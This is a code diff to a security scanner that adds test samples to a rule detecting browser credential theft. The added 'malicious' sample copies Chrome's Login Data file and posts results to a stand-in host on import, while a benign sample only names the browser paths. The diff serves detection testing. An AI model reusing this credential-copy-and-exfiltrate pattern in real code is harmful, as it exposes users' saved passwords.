@@ -9,6 +9,7 @@ from wheelmark.scan.facts import Act, Call, Facts
 from wheelmark.scan.report import Context, Severity, Tactic
 from wheelmark.scan.rule import Evidence, Rule
 from wheelmark.scan.rules._common import graded
+from wheelmark.scan.samples import Sample, Samples
 
 YARA = r"""
 rule stores {
@@ -89,4 +90,34 @@ RULE = Rule(
     reference="https://attack.mitre.org/techniques/T1555/003/",
     check=check,
     yara=YARA,
+    samples=Samples(
+        malicious=(
+            Sample.imported(r"""
+                import os
+                import shutil
+                import sqlite3
+
+                import requests
+
+                _base = os.path.join(os.getenv("LOCALAPPDATA", ""), "Google\\Chrome\\User Data")
+
+
+                def _collect():
+                    shutil.copy(_base + "\\Default\\Login Data", "copy.db")
+                    rows = sqlite3.connect("copy.db").execute("SELECT 1").fetchall()
+                    requests.post("https://collect.example.invalid/", json=rows)
+
+
+                _collect()
+            """),
+        ),
+        benign=(
+            Sample.imported(r'''
+                """Where browsers keep their profiles, for tools that clean them. Sends nothing."""
+
+                CHROME = "Google\\Chrome\\User Data\\Default"
+                LOGINS = "\\Login Data"
+            '''),
+        ),
+    ),
 )
